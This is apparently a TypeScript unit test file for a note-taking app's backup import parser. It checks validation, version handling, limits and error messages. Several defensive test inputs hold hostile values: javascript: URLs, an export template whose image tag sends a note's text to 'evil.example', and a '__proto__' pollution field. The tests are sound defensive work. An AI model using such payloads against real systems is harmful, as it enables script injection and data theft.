import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { toJsonSchema } from '@valibot/to-json-schema';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  BACKUP_LIMITS,
  type Backup,
  BackupSchema,
  createBackup,
  isTruncatedJson,
  type LibraryData,
  parseBackup,
  serializeBackup,
} from '@/core/backup';
import {
  CollectionRecordSchema,
  ConferenceRecordSchema,
  HighlightRecordSchema,
  PageRecordSchema,
  ScheduleLinkSchema,
  SelectorSchema,
  SettingRecordSchema,
  TalkRecordSchema,
} from '@/core/schemas';
import { EMPTY_FILTER, toSavedSearch } from '@/core/library/filters';
import {
  at,
  collection,
  conference,
  conferenceLibrary,
  conferenceTalk,
  highlight,
  page,
  sampleLibrary,
  talk,
} from './backup-fixtures';

const EXPORTED_AT = Date.UTC(2024, 4, 1, 12);
const text = () => serializeBackup(createBackup(sampleLibrary(), EXPORTED_AT));
/** The sample backup as an object, changed by `edit`, back to text. */
const edited = (edit: (backup: Record<string, unknown> & ReturnType<typeof sampleLibrary>) => void) => {
  const data = JSON.parse(text());
  edit(data);
  return JSON.stringify(data);
};
const errorOf = (input: string, options?: Parameters<typeof parseBackup>[1]) => {
  const result = parseBackup(input, options);
  if (result.ok) throw new Error('expected the backup to be refused');
  return result.error;
};

describe('parseBackup', () => {
  it('reads back what createBackup + serializeBackup wrote; export options are held back, not merged', () => {
    const result = parseBackup(text());
    const library = sampleLibrary();
    const exportOptions = library.settings.find((s) => s.key === 'exportOptions')!;
    expect(result).toEqual({
      ok: true,
      backup: createBackup(
        { ...library, settings: library.settings.filter((s) => s !== exportOptions) },
        EXPORTED_AT,
      ),
      warnings: [],
      held: [exportOptions],
    });
  });

  it('round-trips both kinds of collection, a saved search with its criteria (#17)', () => {
    const library = sampleLibrary();
    const search = {
      ...toSavedSearch(EMPTY_FILTER),
      query: 'größenwahn',
      tags: ['kernel'],
      talkIds: ['t1'],
      colors: ['blue' as const],
      fromDay: '2024-01-01',
      hasNote: true,
    };
    library.collections.push(collection('s1', { name: 'Kernel notes', search }));
    const result = parseBackup(serializeBackup(createBackup(library, EXPORTED_AT)));
    if (!result.ok) throw new Error(result.error);
    expect(result.backup.collections).toEqual(library.collections);
    expect('search' in result.backup.collections[0]!).toBe(false);
    // A saved search's criteria are checked as any field is.
    expect(
      errorOf(
        edited((b) => {
          b.collections.push(collection('s2', { search: { ...search, fromDay: 'yesterday' } }));
        }),
      ),
    ).toMatch(/^The backup is not valid: collections\[1\]\.search\.fromDay: /);
  });

  it('accepts a byte-order mark and surrounding whitespace', () => {
    expect(parseBackup(`\uFEFF\n ${text()} \n`).ok).toBe(true);
  });

  it.each<[string, () => string, string | RegExp]>([
    ['empty', () => '  \n', 'The file is empty.'],
    ['not JSON', () => '# My notes\n', 'The file is not JSON: it starts with "# My notes".'],
    ['truncated', () => text().slice(0, 200), /^The file is truncated: its JSON stops in the middle\./],
    ['truncated inside a string', () => '{"format": "talk-notes-b', /truncated/],
    ['malformed', () => '{"format": "talk-notes-backup",, }', /^The file is not valid JSON \(/],
    [
      'a list',
      () => '[1, 2]',
      'This is not a Talk Notes backup: the file holds a list, not a backup object.',
    ],
    [
      'a string',
      () => '"hello"',
      'This is not a Talk Notes backup: the file holds a string, not a backup object.',
    ],
    [
      'another format',
      () => '{"format": "hypothesis", "version": 1}',
      'This is not a Talk Notes backup: its "format" is "hypothesis", expected "talk-notes-backup".',
    ],
    [
      'no format',
      () => '{"pages": []}',
      'This is not a Talk Notes backup: its "format" is missing, expected "talk-notes-backup".',
    ],
    [
      'our Web Annotation export',
      () => '{"@context": "http://www.w3.org/ns/anno.jsonld", "type": "AnnotationCollection"}',
      'This is a Web Annotation export, not a backup: import a file made with "Export backup".',
    ],
    [
      'a newer version',
      () =>
        edited((b) => {
          b.version = 3;
        }),
      'This backup is version 3, newer than this Talk Notes understands (version 2). Update Talk Notes, then import it again.',
    ],
    [
      'version 0',
      () =>
        edited((b) => {
          b.version = 0;
        }),
      "The backup's version is 0: expected a whole number.",
    ],
    [
      'version "1"',
      () =>
        edited((b) => {
          b.version = '1';
        }),
      `The backup's version is "1": expected a whole number.`,
    ],
    [
      'a record of the wrong type',
      () =>
        edited((b) => {
          (b.highlights[1] as unknown as Record<string, unknown>).text = 5;
        }),
      'The backup is not valid: highlights[1].text: Invalid type: Expected string but received 5.',
    ],
    [
      'several problems: the first ones, and a count',
      () =>
        edited((b) => {
          b.pages[0]!.url = 'javascript:alert(1)';
          b.talks[0]!.position = 1.5;
          b.highlights[0]!.selectors = [];
          b.highlights[2]!.color = 'red' as never;
        }),
      /^The backup is not valid: pages\[0\]\.url: must be an http\(s\) URL; talks\[0\]\.position: Invalid integer: .*; highlights\[0\]\.selectors: Invalid length: .* \(and 1 more problem\)\.$/,
    ],
    [
      'a missing table',
      () =>
        edited((b) => {
          delete (b as Record<string, unknown>).collections;
        }),
      'The backup is not valid: collections: missing.',
    ],
    [
      'an oversized string',
      () =>
        edited((b) => {
          b.highlights[0]!.note = 'x'.repeat(1_000_001);
        }),
      /^The backup is not valid: highlights\[0\]\.note: Invalid length: Expected <=1000000 but received 1000001\.$/,
    ],
    [
      'duplicate ids',
      () =>
        edited((b) => {
          b.highlights[2]!.id = 'h1';
        }),
      'The backup is not valid: highlights[2].id duplicates highlights[0].id ("h1").',
    ],
    [
      'two pages with one URL',
      () =>
        edited((b) => {
          b.pages[1]!.url = b.pages[0]!.url;
        }),
      'The backup is not valid: pages[1].url duplicates pages[0].url ("https://blog.example/p1").',
    ],
    [
      'a highlight on a page that is nowhere',
      () =>
        edited((b) => {
          b.highlights[1]!.pageId = 'p404';
        }),
      'The backup is not valid: highlights[1].pageId "p404" is not a page in this file or in your library.',
    ],
    [
      'an invalid known setting',
      () =>
        edited((b) => {
          b.settings[0]!.value = { blue: 42 };
        }),
      /^The backup is not valid: settings\[0\] \(colorNames\): blue: Invalid type: Expected string but received 42\.$/,
    ],
    [
      'a deeply nested setting',
      () =>
        edited((b) => {
          let value: unknown = 1;
          for (let i = 0; i < 40; i++) value = { 'a.example': value };
          b.settings.push({ key: 'talkRules', value });
        }),
      'The backup is not valid: settings[2] (talkRules): the value is too large or too deeply nested.',
    ],
    [
      'a highlight clipped in the year 287,000 (9e15: the dashboard could not show its date)',
      () =>
        edited((b) => {
          b.highlights[0]!.createdAt = 9e15;
        }),
      'The backup is not valid: highlights[0].createdAt: 9000000000000000 is not a date Talk Notes can hold (in the future).',
    ],
    [
      'a page changed at 1e300',
      () =>
        edited((b) => {
          b.pages[1]!.updatedAt = 1e300;
        }),
      'The backup is not valid: pages[1].updatedAt: 1e+300 is not a date Talk Notes can hold (in the future).',
    ],
    [
      'an edit dated Number.MAX_SAFE_INTEGER (it would win every merge)',
      () =>
        edited((b) => {
          b.highlights[2]!.updatedAt = Number.MAX_SAFE_INTEGER;
        }),
      'The backup is not valid: highlights[2].updatedAt: 9007199254740991 is not a date Talk Notes can hold (in the future).',
    ],
    [
      'a time before 1990',
      () =>
        edited((b) => {
          b.collections[0]!.createdAt = Date.UTC(1989, 11, 31);
        }),
      'The backup is not valid: collections[0].createdAt: 631065600000 is not a date Talk Notes can hold (before 1990).',
    ],
    [
      'a backup made in the future',
      () =>
        edited((b) => {
          b.exportedAt = '2999-01-01T00:00:00.000Z';
        }),
      'The backup is not valid: exportedAt: 2999-01-01T00:00:00.000Z is not a date a backup can have been made.',
    ],
  ])('refuses %s with a message that says so', (_, input, message) => {
    const error = errorOf(input());
    if (typeof message === 'string') expect(error).toBe(message);
    else expect(error).toMatch(message);
  });

  it('accepts references to pages of the library', () => {
    const input = edited((b) => {
      b.highlights[1]!.pageId = 'in-library';
    });
    expect(errorOf(input)).toMatch(/"in-library" is not a page/);
    expect(parseBackup(input, { libraryPageIds: new Set(['in-library']) }).ok).toBe(true);
  });

  it('leaves out settings it does not know, and says so', () => {
    let deep: unknown = 1;
    for (let i = 0; i < 40; i++) deep = [deep];
    const result = parseBackup(
      edited((b) => {
        b.settings.push({ key: 'fromTheFuture', value: { a: [1, 2, 3] } }, { key: 'tracking', value: deep });
      }),
    );
    expect(result).toMatchObject({
      ok: true,
      warnings: ['2 settings this version does not know were left out ("fromTheFuture", "tracking").'],
    });
    expect(result.ok && result.backup.settings.map((s) => s.key)).toEqual(['colorNames']);
  });

  it('holds export options back, whatever else the file holds, with their value read by its schema', () => {
    const template = '<img src="https://evil.example/?n={{note}}"> [x](javascript:alert(1))';
    const result = parseBackup(
      edited((b) => {
        b.settings[1]!.value = { ...(b.settings[1]!.value as object), template, groupBy: 'nonsense' };
      }),
    );
    if (!result.ok) throw new Error(result.error);
    expect(result.backup.settings.map((s) => s.key)).toEqual(['colorNames']);
    expect(result.held).toEqual([
      {
        key: 'exportOptions',
        value: {
          groupBy: 'talk', // an invalid field takes its default
          includeNotes: true,
          includeTags: true,
          includeLinks: false,
          includeFrontMatter: true,
          includeAuthor: false,
          template,
        },
      },
    ]);
  });

  it('warns about highlights whose talk is gone, and keeps them', () => {
    const result = parseBackup(
      edited((b) => {
        b.highlights[0]!.talkId = 'gone';
      }),
    );
    expect(result).toMatchObject({
      ok: true,
      warnings: ['1 highlight refers to a talk that is not in the file.'],
    });
  });

  it('keeps a highlight’s clip lead (the line above it in its talk’s section), and refuses one that is no short plain line', () => {
    const lead = { text: '14:20, Room B: Kill Your Feature Flags', likeHeading: true };
    const result = parseBackup(
      edited((b) => {
        Object.assign(b.highlights[0]!, { clipLead: lead });
      }),
    );
    expect(result.ok && result.backup.highlights[0]!.clipLead).toEqual(lead);
    for (const bad of [
      { text: 'x'.repeat(161), likeHeading: false },
      { text: '', likeHeading: false },
      { text: 'A line', likeHeading: 'yes' },
      { text: ['A line'], likeHeading: false },
    ])
      expect(
        parseBackup(
          edited((b) => {
            Object.assign(b.highlights[0]!, { clipLead: bad });
          }),
        ).ok,
      ).toBe(false);
  });

  it('keeps the lines above a highlight, and refuses lines that are no bounded plain data', () => {
    const lines = [
      { text: 'Kill Your Feature Flags — Sofia', kind: 'first', level: 0, style: 2, enclosed: true },
    ];
    const result = parseBackup(
      edited((b) => {
        Object.assign(b.highlights[0]!, { clipLines: lines });
      }),
    );
    expect(result.ok && result.backup.highlights[0]!.clipLines).toEqual(lines);
    for (const bad of [
      [{ ...lines[0], text: 'x'.repeat(161) }],
      [{ ...lines[0], kind: 'script' }],
      [{ ...lines[0], level: -1 }],
      [{ ...lines[0], enclosed: 'no' }],
      Array(9).fill(lines[0]),
      'Kill Your Feature Flags',
    ])
      expect(
        parseBackup(
          edited((b) => {
            Object.assign(b.highlights[0]!, { clipLines: bad });
          }),
        ).ok,
      ).toBe(false);
  });

  it('strips unknown fields, so nothing unexpected reaches the database', () => {
    const result = parseBackup(
      edited((b) => {
        Object.assign(b.highlights[0]!, { extra: 'x', ['__proto__' as string]: { polluted: true } });
      }),
    );
    expect(result.ok && Object.keys(result.backup.highlights[0]!)).not.toContain('extra');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a file over the size limit before parsing it', () => {
    const huge = { length: BACKUP_LIMITS.chars + 1 } as string;
    expect(errorOf(huge)).toBe('The file is too large: 256 MB, the limit is 256 MB.');
  });

  it('never throws, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.constant(text()).map((t) => t.slice(0, t.length / 2)),
        ),
        (input) => {
          const result = parseBackup(input);
          expect(result.ok || (typeof result.error === 'string' && result.error.length > 0)).toBe(true);
        },
      ),
    );
  });
});

describe('parseBackup: conferences (version 2)', () => {
  const withConferences = (edit: (backup: Backup) => void = () => {}) => {
    const backup = createBackup(conferenceLibrary(), EXPORTED_AT);
    edit(backup);
    return JSON.stringify(backup);
  };

  it('reads back a conference, its talks, a page talk linked to one and a highlight filed under one', () => {
    expect(parseBackup(withConferences())).toEqual({
      ok: true,
      backup: createBackup(conferenceLibrary(), EXPORTED_AT),
      warnings: [],
      held: [],
    });
  });

  it('round trip: any library with conferences, conference talks and links reads back as it was written', () => {
    fc.assert(
      fc.property(libraryArbitrary, (library) => {
        const backup = createBackup(library, EXPORTED_AT);
        expect(parseBackup(serializeBackup(backup))).toEqual({ ok: true, backup, warnings: [], held: [] });
      }),
      { numRuns: 50 },
    );
  });

  it.each<[string, (b: Backup) => void, string]>([
    [
      'a talk of a conference that is nowhere',
      (b) => {
        b.talks[1]!.conferenceId = 'nowhere';
      },
      'talks[1].conferenceId "nowhere" is not a conference in this file or in your library',
    ],
    [
      'a talk of a page and of a conference',
      (b) => {
        b.talks[2]!.conferenceId = 'fosdem';
      },
      "talks[2] has both a pageId and a conferenceId: a talk is a page's or a conference's",
    ],
    [
      'a talk of neither a page nor a conference',
      (b) => {
        b.talks[2]!.pageId = null;
      },
      'talks[2] has neither a pageId nor a conferenceId',
    ],
    [
      'a conference talk without its schedule id',
      (b) => {
        delete b.talks[0]!.scheduleId;
      },
      "talks[0].scheduleId: missing (a conference's talk has one)",
    ],
    [
      'one event twice in a conference',
      (b) => {
        b.talks[1]!.scheduleId = 'ev-1';
      },
      'talks[1].scheduleId duplicates talks[0].scheduleId ("fosdem ev-1")',
    ],
    [
      'two conferences with one id',
      (b) => {
        b.conferences.push(conference('fosdem', { title: 'Another' }));
      },
      'conferences[1].id duplicates conferences[0].id ("fosdem")',
    ],
    [
      'a conference of an unknown format',
      (b) => {
        (b.conferences[0] as unknown as Record<string, unknown>).format = 'pdf';
      },
      'conferences[0].format: Invalid type: Expected ("frab-json" | "frab-xml" | "sessionize" | "ical") but received "pdf"',
    ],
    [
      'no conferences at all (version 2 has them)',
      (b) => {
        delete (b as Partial<Backup>).conferences;
      },
      'conferences: missing',
    ],
  ])('refuses %s', (_, edit, problem) => {
    expect(errorOf(withConferences(edit))).toBe(`The backup is not valid: ${problem}.`);
  });

  it('talks may belong to a conference of the library', () => {
    const input = withConferences((b) => {
      b.conferences = [];
    });
    expect(errorOf(input)).toMatch(/talks\[0\]\.conferenceId "fosdem" is not a conference/);
    expect(parseBackup(input, { libraryConferenceIds: new Set(['fosdem']) }).ok).toBe(true);
  });

  it('a link to a conference talk in neither the file nor the library is dropped with a warning', () => {
    const input = withConferences((b) => {
      b.talks.push(
        talk('pt2', 'recap', {
          scheduleTalkId: 'gone',
          scheduleLink: 'chosen',
          scheduleCandidates: ['gone'],
        }),
        talk('pt3', 'recap', { scheduleTalkId: 'in-library', scheduleLink: 'matched' }),
        talk('pt4', 'recap', { scheduleTalkId: 'pt1', scheduleLink: 'chosen' }),
        talk('pt5', 'recap', { scheduleLink: 'declined', scheduleCandidates: ['ct2', 'gone'] }),
      );
    });
    const result = parseBackup(input, { libraryConferenceTalkIds: new Set(['in-library']) });
    if (!result.ok) throw new Error(result.error);
    expect(result.warnings).toEqual([
      '2 talks were linked to conference talks that are neither in the file nor in your library: the links were dropped, and their passages stay under those talks.',
    ]);
    const [pt2, pt3, pt4, pt5] = result.backup.talks.slice(3);
    // pt4 linked to a page talk, not a conference talk: dropped too.
    expect([pt2, pt4].map((t) => [t!.scheduleTalkId, t!.scheduleLink, t!.scheduleCandidates])).toEqual([
      [undefined, undefined, undefined],
      [undefined, undefined, undefined],
    ]);
    expect(pt3).toMatchObject({ scheduleTalkId: 'in-library', scheduleLink: 'matched' });
    expect(pt5).toMatchObject({ scheduleLink: 'declined', scheduleCandidates: ['ct2'] });
    // The talks of the file that linked to talks that are there are untouched.
    expect(result.backup.talks.slice(0, 3)).toEqual(conferenceLibrary().talks);
  });
});

describe('parseBackup: version 1', () => {
  const v1 = readFileSync(join(__dirname, '../../fixtures/backup/v1-library.json'), 'utf8');

  it('a file the version 1 exporter wrote imports as it is, with no conferences', () => {
    const file = JSON.parse(v1);
    expect(file.version).toBe(1);
    const result = parseBackup(v1);
    expect(result).toEqual({
      ok: true,
      backup: {
        format: 'talk-notes-backup',
        version: 2,
        exportedAt: file.exportedAt,
        pages: file.pages,
        conferences: [],
        talks: file.talks,
        highlights: file.highlights,
        collections: file.collections,
        settings: file.settings,
      },
      warnings: [],
      held: [],
    });
    // What version 1 records carry: talks of pages, corrections, pinned highlights.
    expect(file.talks.some((t: { notATalk?: string }) => t.notATalk === 'part')).toBe(true);
    expect(file.highlights.some((h: { talkPinned?: boolean }) => h.talkPinned)).toBe(true);
  });

  it('is checked as before: a version 1 file is refused for what it lacks, not for conferences', () => {
    const file = JSON.parse(v1);
    delete file.collections;
    expect(errorOf(JSON.stringify(file))).toBe('The backup is not valid: collections: missing.');
    const broken = JSON.parse(v1);
    broken.highlights[0].pageId = 'p404';
    expect(errorOf(JSON.stringify(broken))).toBe(
      'The backup is not valid: highlights[0].pageId "p404" is not a page in this file or in your library.',
    );
  });
});

describe('isTruncatedJson', () => {
  it.each([
    ['{"a": [1, 2', true],
    ['{"a": "b\\"', true],
    ['{"a": 1}', false],
    ['{"a": 1}}', false],
    ['{"a": "}"', true],
  ])('%j -> %s', (input, truncated) => {
    expect(isTruncatedJson(input)).toBe(truncated);
  });
});

describe('docs/backup.schema.json', () => {
  it('is the JSON Schema of BackupSchema (UPDATE_GOLDEN=1 regenerates it, then format it with Biome)', () => {
    const generated = {
      title: 'Talk Notes backup, version 2',
      description:
        'See docs/backup-format.md. Generated from core/backup.ts by tests/unit/core/backup.test.ts.',
      ...toJsonSchema(BackupSchema, {
        target: 'draft-2020-12',
        // The custom checks (http(s)-only URLs) have no JSON Schema form; docs/backup-format.md states them.
        errorMode: 'ignore',
        definitions: {
          PageRecord: PageRecordSchema,
          ConferenceRecord: ConferenceRecordSchema,
          TalkRecord: TalkRecordSchema,
          HighlightRecord: HighlightRecordSchema,
          Selector: SelectorSchema,
          ScheduleLink: ScheduleLinkSchema,
          CollectionRecord: CollectionRecordSchema,
          SettingRecord: SettingRecordSchema,
        },
      }),
    };
    const path = join(__dirname, '../../../docs/backup.schema.json');
    // Compared as data: the file is formatted by Biome (`npx biome format --write docs/backup.schema.json`).
    if (process.env.UPDATE_GOLDEN) writeFileSync(path, `${JSON.stringify(generated, null, 2)}\n`);
    expect(JSON.parse(readFileSync(path, 'utf8'))).toEqual(generated);
  });
});

/** Libraries with pages, conferences, their talks, page talks linked to them and highlights. */
const libraryArbitrary = fc
  .record({
    conferences: fc.uniqueArray(
      fc.record({
        id: fc.uuid(),
        title: fc.string({ minLength: 1, maxLength: 40 }),
        acronym: fc.option(fc.string({ maxLength: 10 })),
        start: fc.option(fc.constantFrom('2026-01-31', '2025-10-12')),
        sourceUrl: fc.option(fc.webUrl()),
        sourceFile: fc.option(fc.string({ maxLength: 20 })),
        format: fc.constantFrom('frab-json', 'frab-xml', 'sessionize', 'ical' as const),
        updatedAt: fc.integer({ min: at(0), max: at(365 * 24 * 3600 * 1000) }),
      }),
      { selector: (c) => c.id, maxLength: 3 },
    ),
    events: fc.array(
      fc.record({
        title: fc.string({ maxLength: 40 }),
        subtitle: fc.option(fc.string({ maxLength: 20 })),
        start: fc.option(fc.constant('2026-01-31T10:00:00+01:00')),
        room: fc.option(fc.string({ maxLength: 10 })),
        abstract: fc.option(fc.string({ maxLength: 200 })),
        url: fc.option(fc.webUrl()),
        links: fc.array(
          fc.record({
            kind: fc.constantFrom('recording', 'slides', 'schedule', 'other' as const),
            url: fc.webUrl(),
            title: fc.option(fc.string({ maxLength: 20 })),
          }),
          { maxLength: 3 },
        ),
        housekeeping: fc.boolean(),
        removedFromSchedule: fc.option(fc.constant(true), { nil: undefined }),
      }),
      { maxLength: 6 },
    ),
    pageTalks: fc.array(
      fc.record({
        link: fc.option(fc.nat(), { nil: undefined }),
        state: fc.constantFrom('matched', 'chosen' as const),
        candidates: fc.array(fc.nat(), { maxLength: 3 }),
        declined: fc.boolean(),
      }),
      { maxLength: 3 },
    ),
    filed: fc.array(fc.option(fc.nat()), { maxLength: 4 }),
  })
  .map(({ conferences, events, pageTalks, filed }): LibraryData => {
    const talks = conferences.length
      ? events.map((event, i) => {
          const of = conferences[i % conferences.length]!.id;
          return conferenceTalk(`ct${i}`, of, `ev-${i}`, { ...event, position: i });
        })
      : [];
    const at = (i: number) => talks[i % talks.length]!.id;
    const linked = pageTalks.map((t, i) =>
      talk(`pt${i}`, 'recap', {
        ...(talks.length && t.link !== undefined
          ? { scheduleTalkId: at(t.link), scheduleLink: t.state }
          : t.declined
            ? { scheduleLink: 'declined' as const }
            : {}),
        ...(talks.length && t.candidates.length
          ? { scheduleCandidates: [...new Set(t.candidates.map(at))] }
          : {}),
      }),
    );
    const all = [...talks, ...linked];
    return {
      pages: [page('recap')],
      conferences: conferences.map((c) => conference(c.id, c)),
      talks: all,
      highlights: filed.map((t, i) =>
        highlight(`h${i}`, 'recap', { talkId: t === null || !all.length ? null : all[t % all.length]!.id }),
      ),
      collections: [],
      settings: [],
    };
  });
